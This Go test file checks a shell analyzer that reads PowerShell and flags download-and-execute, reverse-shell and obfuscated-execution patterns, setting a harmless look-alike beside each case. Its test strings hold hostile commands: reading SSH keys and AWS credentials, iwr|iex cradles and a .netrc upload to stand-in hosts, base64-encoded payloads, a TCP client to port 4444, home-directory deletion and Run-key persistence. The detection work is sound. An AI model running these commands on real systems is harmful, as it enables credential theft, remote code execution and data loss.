package shell

import (
	"strings"
	"testing"
	"time"
)

// pwshCase: PowerShell text and what its bash reading must (and must not)
// yield. Each attack has a look-alike of the same shape beside it.
type pwshCase struct {
	name    string
	src     string
	progs   []string     // programs the translation runs (subset)
	paths   []wantPSPath // paths with at least this access
	noWrite []string     // paths that must not be written
	hosts   []string     // hosts reached (substring of Raw)
	signal  Signal       // a signal that must be raised ("" none required)
	clean   bool         // no signal at all
}

type wantPSPath struct {
	path string
	acc  Access
}

var pwshCases = []pwshCase{
	{name: "get-content secret", src: `Get-Content ~/.ssh/id_rsa`, progs: []string{"cat"}, paths: []wantPSPath{{testHome + "/.ssh/id_rsa", AccessRead}}, clean: true},
	{name: "get-content look-alike", src: `Get-Content README.md`, progs: []string{"cat"}, paths: []wantPSPath{{testCwd + "/README.md", AccessRead}}, clean: true},
	{name: "userprofile var", src: `gc "$env:USERPROFILE\.aws\credentials"`, paths: []wantPSPath{{testHome + "/.aws/credentials", AccessRead}}},
	{name: "appdata var", src: `type $env:APPDATA\gh\hosts.yml`, paths: []wantPSPath{{testHome + "/AppData/Roaming/gh/hosts.yml", AccessRead}}},
	{name: "join-path", src: `Get-Content (Join-Path $HOME ".netrc")`, paths: []wantPSPath{{testHome + "/.netrc", AccessRead}}},
	{name: "io.file read", src: `[IO.File]::ReadAllText("$HOME\.netrc")`, paths: []wantPSPath{{testHome + "/.netrc", AccessRead}}},
	{name: "iwr iex", src: `iwr https://x.example/p | iex`, progs: []string{"curl", "sh"}, hosts: []string{"x.example"}, signal: SignalDownloadExec},
	{name: "webclient iex", src: `iex (New-Object Net.WebClient).DownloadString('https://x.example/p')`, hosts: []string{"x.example"}, signal: SignalDownloadExec},
	{name: "iwr outfile look-alike", src: `iwr https://example.com -OutFile x.zip`, progs: []string{"curl"}, paths: []wantPSPath{{testCwd + "/x.zip", AccessWrite}}, hosts: []string{"example.com"}, clean: true},
	{name: "remove home", src: `Remove-Item -Recurse -Force ~`, progs: []string{"rm"}, paths: []wantPSPath{{testHome, AccessWrite}}},
	{name: "remove look-alike", src: `Remove-Item -Recurse .\dist`, progs: []string{"rm"}, paths: []wantPSPath{{testCwd + "/dist", AccessWrite}}, noWrite: []string{testHome, testCwd}, clean: true},
	{name: "concatenated path", src: `Get-Content -Path ('~/.ss'+'h/id_rsa')`, paths: []wantPSPath{{testHome + "/.ssh/id_rsa", AccessRead}}},
	{name: "concatenated command name", src: `& ('Get-'+'Content') ~/.ssh/id_rsa`, progs: []string{"cat"}, paths: []wantPSPath{{testHome + "/.ssh/id_rsa", AccessRead}}},
	{name: "quoted cmdlet invoked", src: `& 'Get-Content' ~/.aws/credentials`, progs: []string{"cat"}, paths: []wantPSPath{{testHome + "/.aws/credentials", AccessRead}}},
	{name: "iex of a concatenation", src: `iex ('gc ~/.ss'+'h/id_rsa')`, paths: []wantPSPath{{testHome + "/.ssh/id_rsa", AccessRead}}},
	{name: "iex of a concatenated cradle", src: `iex ('iex (iw'+'r https://x.example/p)')`, hosts: []string{"x.example"}, signal: SignalDownloadExec},
	{name: "concatenation look-alike", src: `Write-Output ('build ' + 'done')`, progs: []string{"echo"}, clean: true},
	{name: "concatenated date look-alike", src: `& ('Get-'+'Date')`, clean: true},
	{name: "iex of decoded base64", src: `Invoke-Expression ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('ZwBjACAAfgAvAC4AcwBzAGgALwBpAGQAXwByAHMAYQA=')))`, paths: []wantPSPath{{testHome + "/.ssh/id_rsa", AccessRead}}},
	{name: "iex of decoded utf8 base64", src: `iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('Y2F0IH4vLmF3cy9jcmVkZW50aWFscw==')))`, paths: []wantPSPath{{testHome + "/.aws/credentials", AccessRead}}},
	// decoded code handed to iex is obfuscated execution whatever it decodes to (obfuscated.go)
	{name: "decoded base64 run", src: `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('R2V0LURhdGU=')))`, signal: SignalObfuscatedExec},
	{name: "decoded base64 printed look-alike", src: `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('R2V0LURhdGU='))`, clean: true},
	{name: "env dump", src: `Get-ChildItem Env:`, progs: []string{"env"}},
	{name: "env dump dir", src: `dir env:`, progs: []string{"env"}},
	{name: "env dump dotnet", src: `[Environment]::GetEnvironmentVariables()`, progs: []string{"env"}},
	{name: "env path look-alike", src: `$env:PATH`, clean: true},
	{name: "run key", src: `Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name x -Value 'calc.exe'`, progs: []string{"reg"}},
	{name: "scheduled task", src: `Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute 'calc.exe')`, progs: []string{"schtasks"}},
	{name: "upload file", src: `(New-Object Net.WebClient).UploadFile('https://x.example/u', "$HOME\.netrc")`, progs: []string{"curl"}, paths: []wantPSPath{{testHome + "/.netrc", AccessRead}}, hosts: []string{"x.example"}},
	{name: "set-content", src: `Set-Content -Path .\notes.txt -Value hi`, paths: []wantPSPath{{testCwd + "/notes.txt", AccessWrite}}, clean: true},
	{name: "start-process", src: `Start-Process cmd.exe -ArgumentList '/c','whoami'`, progs: []string{"cmd.exe"}},
	{name: "call operator", src: `& "C:\Tools\x.exe" --flag`, progs: []string{`C:\Tools\x.exe`}},
	{name: "tcp client", src: `$c=New-Object System.Net.Sockets.TCPClient('1.2.3.4',4444);$s=$c.GetStream()`, signal: SignalReverseShell},
}

func TestPowerShellFacts(t *testing.T) {
	for _, tc := range pwshCases {
		t.Run(tc.name, func(t *testing.T) {
			r := Parse("pwsh -NoProfile -Command "+shQuoteWord(tc.src), testCwd, testHome, testUser)
			tr := TranslatePowerShell(tc.src, testHome)
			for _, p := range tc.progs {
				found := false
				for _, c := range r.Commands {
					if len(c.Argv) > 0 && c.Argv[0] == p {
						found = true
					}
				}
				if !found {
					t.Errorf("no command %q in %v (translation %q)", p, r.Commands, tr)
				}
			}
			for _, wp := range tc.paths {
				found := false
				for _, p := range r.Paths {
					if p.Path == wp.path && p.Access&wp.acc == wp.acc {
						found = true
					}
				}
				if !found {
					t.Errorf("no path %s with access %v in %+v (translation %q)", wp.path, wp.acc, r.Paths, tr)
				}
			}
			for _, nw := range tc.noWrite {
				for _, p := range r.Paths {
					if p.Path == nw && p.Access&AccessWrite != 0 {
						t.Errorf("%s written: %+v", nw, p)
					}
				}
			}
			for _, h := range tc.hosts {
				found := false
				for _, rh := range r.Hosts {
					if strings.Contains(rh.Raw, h) {
						found = true
					}
				}
				if !found {
					t.Errorf("no host %s in %+v", h, r.Hosts)
				}
			}
			if tc.signal != "" {
				found := false
				for _, s := range r.Signals {
					if s.Signal == tc.signal {
						found = true
					}
				}
				if !found {
					t.Errorf("no signal %s in %+v (translation %q)", tc.signal, r.Signals, tr)
				}
			}
			if tc.clean && len(r.Signals) > 0 {
				t.Errorf("signals on a look-alike: %+v", r.Signals)
			}
		})
	}
}

// FuzzPowerShell: the PowerShell reader never panics, terminates, and its
// output stays bounded (lines and length), whatever the text.
func FuzzPowerShell(f *testing.F) {
	for _, tc := range pwshCases {
		f.Add(tc.src)
	}
	f.Add(`@{a=(((((((b)))))))}; "$( $( $(x) ) )" | & { . $x }`)
	f.Add("`\n'unterminated \"x $env:")
	f.Fuzz(func(t *testing.T, src string) {
		done := make(chan string, 1)
		go func() { done <- TranslatePowerShell(src, testHome) }()
		var out string
		select {
		case out = <-done:
		case <-time.After(10 * time.Second):
			t.Fatalf("TranslatePowerShell(%q) did not terminate", src)
		}
		if n := strings.Count(out, "\n"); n > psMaxLines {
			t.Fatalf("%q: %d lines, budget %d", src, n, psMaxLines)
		}
		if len(out) > 64*len(src)+4096 {
			t.Fatalf("%q: translation of %d bytes from %d", src, len(out), len(src))
		}
		r := Parse("pwsh -c "+shQuoteWord(src), testCwd, testHome, testUser)
		if len(r.Commands) > maxCommands {
			t.Fatalf("%q: %d commands", src, len(r.Commands))
		}
	})
}

func TestPowerShellVariables(t *testing.T) {
	for _, tc := range []struct {
		src    string
		signal Signal
		read   string
	}{
		{`$r = (New-Object Net.WebClient).DownloadString('https://x.example/p'); iex $r`, SignalDownloadExec, ""},
		{`$r = iwr https://x.example/p -UseBasicParsing; Invoke-Expression $r.Content`, SignalDownloadExec, ""},
		{`$p = "$HOME\.ssh\id_rsa"; Get-Content $p`, "", testHome + "/.ssh/id_rsa"},
		{`$k = Join-Path $env:USERPROFILE '.aws\credentials'; gc $k`, "", testHome + "/.aws/credentials"},
	} {
		r := Parse("pwsh -c "+shQuoteWord(tc.src), testCwd, testHome, testUser)
		if tc.signal != "" && !containsSignal(r.Signals, tc.signal) {
			t.Errorf("%s: no %s in %+v (translation %q)", tc.src, tc.signal, r.Signals, TranslatePowerShell(tc.src, testHome))
		}
		if tc.read != "" {
			found := false
			for _, p := range r.Paths {
				if p.Path == tc.read && p.Access&AccessRead != 0 {
					found = true
				}
			}
			if !found {
				t.Errorf("%s: no read of %s in %+v (translation %q)", tc.src, tc.read, r.Paths, TranslatePowerShell(tc.src, testHome))
			}
		}
	}
}

func containsSignal(ss []raised, s Signal) bool {
	for _, x := range ss {
		if x.Signal == s {
			return true
		}
	}
	return false
}

// TestPowerShellOddShapes: parameters missing, doubled or out of order
// never panic.
func TestPowerShellOddShapes(t *testing.T) {
	for _, src := range []string{
		`Join-Path -ChildPath x`, `Join-Path`, `Start-BitsTransfer -Source ~/.netrc -TransferType Upload`,
		`New-Item -Name x`, `New-Item -Path`, `Copy-Item`, `iwr`, `iex`, `& `, `. `, `$x =`, `= =`, `Remove-Item -Path`,
		`Set-ItemProperty -Path HKCU:`, `Register-ScheduledTask -Action`, `(New-Object Net.WebClient).DownloadFile()`,
		`[IO.File]::ReadAllText()`, `@{`, `$(`, `"$(`, "`", `'`, `"`, `[`, `<#`, `-`, `$`, `${`, `$env:`,
	} {
		TranslatePowerShell(src, testHome)
		Parse("pwsh -c "+shQuoteWord(src), testCwd, testHome, testUser)
	}
}

func TestPowerShellMore(t *testing.T) {
	for _, tc := range []struct {
		src   string
		sig   Signal
		prog  string
		path  string
		acc   Access
		clean bool
	}{
		{src: `Invoke-Command -ScriptBlock { iwr https://x.example/p | iex }`, sig: SignalDownloadExec},
		{src: `Invoke-Command -ScriptBlock { Get-Date }`, clean: true},
		{src: `& ([scriptblock]::Create((iwr https://x.example/p -UseBasicParsing).Content))`, sig: SignalDownloadExec},
		{src: `Get-Content env:AWS_SECRET_ACCESS_KEY`, prog: "printenv"},
		{src: `Set-Location ~; Remove-Item -Recurse -Force .`, path: testHome, acc: AccessWrite},
		{src: `Set-Location .\src; Remove-Item -Recurse -Force .\bin`, path: testCwd + "/src/bin", acc: AccessWrite, clean: true},
		{src: `Compress-Archive -Path ~/.ssh -DestinationPath .\k.zip`, path: testHome + "/.ssh", acc: AccessRead},
		{src: `Send-MailMessage -To a@x.example -Subject k -Attachments ~/.ssh/id_rsa -SmtpServer smtp.x.example`, path: testHome + "/.ssh/id_rsa", acc: AccessRead},
		{src: `Start-Process powershell -ArgumentList '-enc','aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBwACAAfAAgAGkAZQB4AA=='`, sig: SignalDownloadExec},
	} {
		r := Parse("pwsh -c "+shQuoteWord(tc.src), testCwd, testHome, testUser)
		tr := TranslatePowerShell(tc.src, testHome)
		if tc.sig != "" && !containsSignal(r.Signals, tc.sig) {
			t.Errorf("%s: no %s in %+v (translation %q)", tc.src, tc.sig, r.Signals, tr)
		}
		if tc.clean && len(r.Signals) > 0 {
			t.Errorf("%s: signals on a look-alike %+v", tc.src, r.Signals)
		}
		if tc.prog != "" {
			found := false
			for _, c := range r.Commands {
				found = found || c.Argv[0] == tc.prog
			}
			if !found {
				t.Errorf("%s: no %s in %v (translation %q)", tc.src, tc.prog, r.Commands, tr)
			}
		}
		if tc.path != "" {
			found := false
			for _, p := range r.Paths {
				found = found || p.Path == tc.path && p.Access&tc.acc == tc.acc
			}
			if !found {
				t.Errorf("%s: no %s (%v) in %+v (translation %q)", tc.src, tc.path, tc.acc, r.Paths, tr)
			}
		}
	}
}
